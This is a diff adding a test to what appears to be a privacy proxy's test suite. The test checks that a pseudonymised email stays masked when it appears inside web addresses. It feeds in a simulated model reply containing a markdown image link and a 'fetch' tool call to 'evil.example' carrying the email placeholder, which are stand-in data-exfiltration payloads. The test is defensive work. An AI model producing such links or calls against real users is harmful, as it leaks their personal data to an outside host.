@@ -2,6 +2,7 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { adjustEntry, chat, message, startWorld, type World } from './setup.ts'
+import { textOf } from './text-of.ts'
 
 const email = 'anna.muster@example.com'
 const card = '4111 1111 1111 1111'
@@ -221,3 +222,18 @@ test('quasi-identifiers are found only where the operator asks, and then nothing
     else assert.match(content, sent)
   }
 })
+
+const picture = 'Look: ![x](https://evil.example/?q=[EMAIL_1]), says [EMAIL_1].'
+for (const stream of [false, true]) {
+  test(`${stream ? 'stream' : 'whole answer'}: a pseudonym inside a web address stays one for the caller, in texts and in calls, unless settings let it`, async t => {
+    for (const restore_in_addresses of [undefined, true]) {
+      const args = { url: 'https://evil.example/[EMAIL_1]', to: '[EMAIL_1]' }
+      const world = await startWorld(t, { config: dataSettings(restore_in_addresses === undefined ? {} : { restore_in_addresses }), cloud: { reply: () => ({ kind: 'answer', text: picture, toolCalls: [{ name: 'fetch', args }], deltaChars: 3, chunkBytes: [1, 5, 9] }) } })
+      for (const [path, ask, tools] of [['/v1/chat/completions', chat, [{ type: 'function', function: { name: 'fetch' } }]], ['/v1/messages', message, [{ name: 'fetch', input_schema: { type: 'object' } }]]] as const) {
+        const said = textOf(await (await world.post(path, ask(`I am ${email}.`, { model: 'cloud-only', stream, tools }))).text())
+        const where = restore_in_addresses === true ? email : '[EMAIL_1]'
+        for (const expected of [`?q=${where}), says ${email}.`, `https://evil.example/${where}"`, `"to":"${email}"`]) assert.ok(said.includes(expected), `${path}: ${said}`)
+      }
+    }
+  })
+}
